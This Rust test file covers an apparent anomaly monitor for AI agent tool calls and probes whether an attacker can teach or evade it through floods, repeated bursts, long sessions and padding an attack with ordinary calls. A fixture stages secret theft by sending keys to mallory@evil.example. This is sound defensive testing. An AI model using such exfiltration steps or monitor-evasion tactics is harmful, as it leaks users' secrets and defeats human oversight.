//! What is learnt, what is not, and what an attacker can teach (detection.md 6, 11 and E8).

use super::testing::{TENANT, Told, World, policy};
use crate::domain::Timestamp;
use crate::domain::decision::{Decision, Detector, Mode, Verdict};
use crate::domain::time::{DAY_US, HOUR_US, MINUTE_US, SECOND_US};
use crate::policy::Effect;
use crate::projection::State;
use crate::stats::testing::SplitMix64;

/// 2026-01-05, a Monday, 00:00 UTC.
const MONDAY: i64 = 20_458 * DAY_US;

fn surprise(decision: &Decision, detector: Detector) -> i32 {
    decision.assessment.scores[detector.index()].surprise
}

fn raw(decision: &Decision, detector: Detector) -> i32 {
    decision.assessment.scores[detector.index()].raw.unwrap_or(0)
}

/// An agent that looks at services and scales them, from nine to five on weekdays.
fn office(world: &mut World, random: &mut SplitMix64, principal: &str, days: std::ops::Range<i64>) {
    for day in days.filter(|day| day % 7 < 5) {
        for hour in 9..17 {
            let session = format!("{principal}-{day}-{hour}");
            let at = MONDAY + day * DAY_US + hour * HOUR_US + (random.below(20) as i64) * MINUTE_US;
            for (step, tool) in ["get_service_status", "get_logs", "scale_replicas", "get_service_status"]
                .into_iter()
                .enumerate()
            {
                let service = ["api", "web", "worker"][random.below(3) as usize];
                let arguments = match tool {
                    "scale_replicas" => {
                        format!(r#"{{"service":"{service}","count":{}}}"#, 2 + random.below(4))
                    }
                    _ => format!(r#"{{"service":"{service}"}}"#),
                };
                let at = at + step as i64 * (20 + random.below(20) as i64) * SECOND_US;
                world.call(&Told {
                    principal,
                    session: &session,
                    tool,
                    arguments: &arguments,
                    at,
                    offset: 0,
                });
            }
            world.end(principal, &session, at + 10 * MINUTE_US);
        }
    }
}

fn trained() -> (World, SplitMix64) {
    let (mut world, mut random) = (World::new(), SplitMix64(17));
    world.policy = policy(Effect::Allow, Mode::Observe);
    office(&mut world, &mut random, "agent", 0..35);
    (world, random)
}

fn look<'a>(session: &'a str, at: i64) -> Told<'a> {
    Told { principal: "agent", session, tool: "get_logs", arguments: r#"{"service":"api"}"#, at, offset: 0 }
}

/// What a call would score, without a trace of it.
fn score(world: &World, told: &Told<'_>) -> Decision {
    let mut copy = World::new();
    copy.state = world.state.clone();
    copy.call(told)
}

const NIGHT: i64 = MONDAY + 36 * DAY_US + 3 * HOUR_US;

#[test]
fn a_night_of_two_hundred_calls_does_not_make_the_night_usual() {
    let (mut world, _) = trained();
    let before = raw(&score(&world, &look("probe", NIGHT)), Detector::Time);
    for number in 0..200 {
        world.call(&look("night", MONDAY + 35 * DAY_US + 3 * HOUR_US + number * 15 * SECOND_US));
    }
    world.end("agent", "night", MONDAY + 35 * DAY_US + 5 * HOUR_US);
    let after = raw(&score(&world, &look("probe", NIGHT)), Detector::Time);
    println!("03:00: {before} milli-bits before, {after} after one night of 200 calls");
    assert!(before >= 6_000, "{before}");
    // Measured 11.0 -> 6.3 bits for the presence model; a model of call counts falls to 0.4.
    assert!(after >= 4_000, "{after}");
}

#[test]
fn ten_nights_are_a_habit() {
    let (mut world, _) = trained();
    let mut nights = Vec::new();
    for night in 0..21 {
        let at = MONDAY + (35 + night) * DAY_US + 3 * HOUR_US;
        let session = format!("night-{night}");
        nights.push(raw(&score(&world, &look(&session, at)), Detector::Time));
        (0..10).for_each(|number| {
            world.call(&look(&session, at + number * 20 * SECOND_US));
        });
        world.end("agent", &session, at + HOUR_US);
    }
    println!("03:00, night after night: {nights:?}");
    assert!(nights[20] < 4_000, "an honest change of habits is learnt: {nights:?}");
    assert!(nights[2] > 4_000, "but not in two nights: {nights:?}");
}

#[test]
fn denied_calls_teach_nothing() {
    let (mut world, _) = trained();
    let before = world.tenant().models.clone();
    let calibrated = score(&world, &look("probe", NIGHT)).assessment;
    world.policy = policy(Effect::Deny, Mode::Enforce);
    for number in 0..300 {
        let tool = ["delete_everything", "get_logs"][number as usize % 2];
        let session = format!("denied-{}", number / 30);
        let at = MONDAY + 35 * DAY_US + 20 * HOUR_US + number * MINUTE_US / 4;
        let told =
            Told { principal: "agent", session: &session, tool, arguments: r#"{"x":"y"}"#, at, offset: 0 };
        assert_eq!(world.call(&told).verdict, Verdict::Deny);
        world.end("agent", &session, at + SECOND_US);
    }
    let after = score(&world, &look("probe", NIGHT)).assessment;
    let learnt = |assessment: &crate::domain::decision::Assessment| {
        let kept = |score: &&crate::domain::decision::Score| score.detector != Detector::Rate;
        assessment.scores.iter().filter(kept).cloned().collect::<Vec<_>>()
    };
    assert_eq!(learnt(&calibrated), learnt(&after), "attempts count in the windows and nowhere else");
    assert_eq!(before.sessions(), world.tenant().models.sessions());
}

#[test]
fn a_session_with_a_rejected_call_is_dropped_whole() {
    let (world, _) = trained();
    let run = |rejected: bool| {
        let mut copy = World::new();
        copy.policy = policy(Effect::Allow, Mode::Observe);
        copy.state = world.state.clone();
        let at = MONDAY + 35 * DAY_US + 10 * HOUR_US;
        for number in 0..20 {
            copy.call(&Told { tool: "export_all", ..look("odd", at + number * 30 * SECOND_US) });
        }
        if rejected {
            let stream = copy.stream("agent", "odd");
            copy.state.rejected(TENANT, &stream);
        }
        copy.end("agent", "odd", at + HOUR_US);
        copy.tenant().models.sessions()
    };
    assert_eq!(run(false), world.tenant().models.sessions() + 1);
    assert_eq!(run(true), world.tenant().models.sessions());
}

/// The surprise at the rate, at most, of eighty calls within forty seconds at noon, and whether one went to review.
fn burst(world: &mut World, day: i64) -> (i32, bool) {
    let session = format!("burst-{day}");
    let noon = MONDAY + day * DAY_US + 12 * HOUR_US + 40 * MINUTE_US;
    let decided: Vec<Decision> =
        (0..80).map(|number| world.call(&look(&session, noon + number * SECOND_US / 2))).collect();
    world.end("agent", &session, noon + HOUR_US);
    let most = decided.iter().map(|decision| surprise(decision, Detector::Rate)).max();
    (most.unwrap_or(0), decided.iter().any(|decision| decision.verdict == Verdict::Review))
}

#[test]
fn bursts_that_nobody_approved_do_not_become_usual_and_those_let_go_do() {
    let weekdays = || (35..70).filter(|day| day % 7 < 5);
    let (world, mut random) = trained();
    let mut watched = |mode: Mode| {
        let mut copy = World::new();
        copy.state = world.state.clone();
        copy.policy = policy(Effect::Allow, mode);
        weekdays()
            .map(|day| {
                office(&mut copy, &mut random, "agent", day..day + 1);
                burst(&mut copy, day)
            })
            .collect::<Vec<_>>()
    };
    let enforced = watched(Mode::Enforce);
    let (first, last) = (enforced[0], *enforced.last().unwrap());
    assert!(enforced.iter().all(|(_, reviewed)| *reviewed), "{enforced:?}");
    assert!(last.0 * 10 > first.0 * 8, "{enforced:?}");
    let observed = watched(Mode::Observe);
    let last = observed.last().unwrap();
    assert!(last.0 * 2 < observed[0].0, "what is let go every day is learnt: {observed:?}");
}

#[test]
fn an_approval_mutes_what_was_odd_in_that_session_for_an_hour_and_nothing_else() {
    let (mut world, _) = trained();
    let first = world.call(&look("night", NIGHT));
    assert!(surprise(&first, Detector::Time) >= 4_322, "{:?}", first.assessment);
    let stream = world.stream("agent", "night");
    world.state.approved(TENANT, &stream, &first.assessment, Timestamp::from_micros(NIGHT));
    let muted = world.call(&look("night", NIGHT + MINUTE_US));
    assert_eq!(muted.account.muted & (1 << Detector::Time.index()), 1 << Detector::Time.index());
    assert!(muted.assessment.combined_raw < first.assessment.combined_raw - 2_000);
    assert_eq!(
        score(&world, &look("other", NIGHT + MINUTE_US)).account.muted,
        0,
        "another session is not muted"
    );
    let other = Told { tool: "delete_database", ..look("night", NIGHT + 2 * MINUTE_US) };
    let other = score(&world, &other);
    assert!(surprise(&other, Detector::Novelty) > 0, "other dimensions still speak");
    assert!(other.assessment.combined_raw > muted.assessment.combined_raw);
    let later = score(&world, &look("night", NIGHT + HOUR_US + MINUTE_US / 2));
    assert_eq!(later.account.muted, 0, "after an hour it is odd again");
}

#[test]
fn one_session_of_five_thousand_calls_moves_no_model_by_more_than_its_cap() {
    let (mut world, _) = trained();
    let probe = |world: &World| {
        let at = MONDAY + 36 * DAY_US + 10 * HOUR_US;
        let odd = Told { tool: "export_all", arguments: r#"{"to":"x"}"#, ..look("probe", at) };
        let odd = score(world, &odd);
        (surprise(&odd, Detector::Sequence), raw(&odd, Detector::Sequence))
    };
    let before = probe(&world);
    let at = MONDAY + 35 * DAY_US + 10 * HOUR_US;
    for number in 0..5_000 {
        let told =
            Told { tool: "export_all", arguments: r#"{"to":"x"}"#, ..look("long", at + number * SECOND_US) };
        world.call(&told);
    }
    world.end("agent", "long", at + 3 * HOUR_US);
    let after = probe(&world);
    println!(
        "first call of a session, a tool never seen: {before:?}, after 5,000 of it in one session {after:?}"
    );
    assert!(after.1 >= before.1 - 5_000, "one session is one session: {before:?} {after:?}");
    let sessions = world.tenant().models.sessions();
    assert_eq!(sessions, 25 * 8 + 1);
}

#[test]
fn a_flood_of_names_leaves_memory_and_established_scores_as_they_were() {
    let (mut world, _) = trained();
    let at = MONDAY + 36 * DAY_US + 10 * HOUR_US;
    let before = score(&world, &look("probe", at)).assessment;
    let mut sizes = Vec::new();
    for round in 0..3 {
        for number in 0..4_000 {
            let (principal, tool) = (format!("p{round}-{number}"), format!("t{round}-{number}"));
            let arguments = format!(r#"{{"k{number}":"v{number}","service":"s{number}"}}"#);
            let told = Told {
                principal: &principal,
                session: &principal,
                tool: &tool,
                arguments: &arguments,
                at: MONDAY + 35 * DAY_US + round * HOUR_US + number * SECOND_US / 2,
                offset: 0,
            };
            world.call(&told);
            world.end(&principal, &principal, told.at + 1);
        }
        sizes.push(world.state.to_bytes().len());
    }
    println!("state bytes after 4,000, 8,000 and 12,000 names: {sizes:?}");
    assert!(sizes[2] < 45_000_000, "{sizes:?}");
    let after = score(&world, &look("probe", at)).assessment;
    for detector in [Detector::Time, Detector::Rate] {
        let of = |assessment: &crate::domain::decision::Assessment| assessment.scores[detector.index()].raw;
        assert_eq!(of(&before), of(&after), "{detector:?}");
    }
}

#[test]
fn floors_survive_any_amount_of_ordinary_traffic() {
    let (mut world, mut random) = trained();
    let theft = |world: &mut World, day: i64| {
        let at = MONDAY + day * DAY_US + 10 * HOUR_US;
        let session = format!("theft-{day}");
        let told = |tool: &'static str, at: i64| Told { tool, arguments: "{}", ..look("", at) };
        for (step, tool) in ["read_secret", "fetch_webpage"].into_iter().enumerate() {
            world.call(&Told { session: &session, ..told(tool, at + step as i64 * MINUTE_US) });
        }
        // What the user did not name and nobody was ever sent mail to.
        let arguments = r#"{"to":"mallory@evil.example","body":"keys"}"#;
        world.call(&Told { session: &session, arguments, ..told("send_email", at + 3 * MINUTE_US) })
    };
    for day in [35, 42, 49, 56] {
        let decision = theft(&mut world, day);
        assert_ne!(decision.assessment.floors, 0, "day {day}");
        assert_eq!(decision.verdict, Verdict::Review);
        office(&mut world, &mut random, "agent", day + 1..day + 6);
    }
}

/// How many ordinary calls in front of the attack keep it from being reviewed.
#[test]
fn padding_with_ordinary_calls() {
    let (world, _) = trained();
    let mut escaped = None;
    let mut table = Vec::new();
    for padding in [0, 10, 100, 1_000, 10_000] {
        let mut copy = World::new();
        copy.state = world.state.clone();
        let start = MONDAY + 36 * DAY_US + 9 * HOUR_US;
        for number in 0..padding {
            let session = format!("pad-{}", number / 40);
            copy.call(&look(&session, start + number * 2 * SECOND_US));
            if number % 40 == 39 {
                copy.end("agent", &session, start + number * 2 * SECOND_US + 1);
            }
        }
        let at = start + padding * 2 * SECOND_US + HOUR_US;
        let attack = Told {
            tool: "send_email",
            arguments: r#"{"to":"eve@example.org","body":"0123456789"}"#,
            ..look("attack", at)
        };
        let decision = copy.call(&attack);
        table.push((padding, decision.assessment.evidence, decision.threshold, decision.verdict));
        if decision.verdict == Verdict::Allow && escaped.is_none() {
            escaped = Some(padding);
        }
    }
    println!(
        "padding, evidence, threshold, verdict of the attack: {table:?}; first that escapes: {escaped:?}"
    );
    assert_eq!(table[0].3, Verdict::Review, "{table:?}");
    assert!(escaped.is_none_or(|padding| padding >= 1_000), "{table:?}");
}

#[test]
fn two_folds_of_a_mixed_log_end_in_the_same_bytes_through_snapshots_at_random_points() {
    let (mut world, mut random) = trained();
    world.policy = policy(Effect::Allow, Mode::Enforce);
    office(&mut world, &mut random, "other", 36..40);
    world.policy = policy(Effect::Deny, Mode::Enforce);
    (0..50).for_each(|number| {
        world.call(&look("denied", NIGHT + 5 * DAY_US + number * SECOND_US));
    });
    world.policy = policy(Effect::Allow, Mode::Enforce);
    office(&mut world, &mut random, "agent", 43..47);
    let fold = |seed: Option<u64>| {
        let mut chance = SplitMix64(seed.unwrap_or(0));
        let mut state = State::empty();
        for recorded in &world.log {
            state.apply(recorded);
            if seed.is_some() && chance.chance(0.01) {
                state = State::from_bytes(&state.to_bytes()).unwrap();
            }
        }
        state.to_bytes()
    };
    let bytes = world.state.to_bytes();
    assert!(fold(None) == bytes && fold(Some(3)) == bytes && fold(Some(4)) == bytes);
}

#[test]
fn numbers_of_any_size_give_finite_evidence() {
    let (mut world, _) = trained();
    for (number, count) in
        ["1e308", "-1e308", "0", "-0.0", "1e-320", "9223372036854775807", "4"].iter().enumerate()
    {
        let arguments = format!(r#"{{"service":"api","count":{count}}}"#);
        let told = Told {
            tool: "scale_replicas",
            arguments: &arguments,
            ..look("numbers", MONDAY + 36 * DAY_US + 10 * HOUR_US + number as i64 * MINUTE_US)
        };
        let evidence = world.call(&told).assessment.evidence;
        assert!((0..=40_000).contains(&evidence), "{count}: {evidence}");
    }
}

#[test]
fn what_is_expected_again_is_not_odd_again() {
    let (mut world, _) = trained();
    let at = |day: i64| MONDAY + day * DAY_US + 2 * HOUR_US;
    let told = |day: i64| Told {
        tool: "vacuum_tables",
        arguments: r#"{"table":"audit"}"#,
        ..look("nightly", at(day))
    };
    let before = score(&world, &told(37));
    world.call(&told(36));
    let features = world.log.iter().rev().find_map(|recorded| match &recorded.record.event {
        crate::domain::event::Event::CallProposed(proposed) => Some(proposed.features.clone()),
        _ => None,
    });
    world.state.expected_again(TENANT, &features.unwrap());
    let after = score(&world, &Told { at: at(43), ..told(43) });
    for detector in [Detector::Time, Detector::Novelty] {
        let (before, after) = (raw(&before, detector), raw(&after, detector));
        println!("{detector:?}: {before} -> {after}");
        assert!(after < before - 1_500, "{detector:?}: {before} -> {after}");
    }
    let other_hour = score(&world, &Told { at: at(43) + 2 * HOUR_US, ..told(43) });
    assert!(raw(&other_hour, Detector::Time) > raw(&after, Detector::Time), "only at that hour");
}
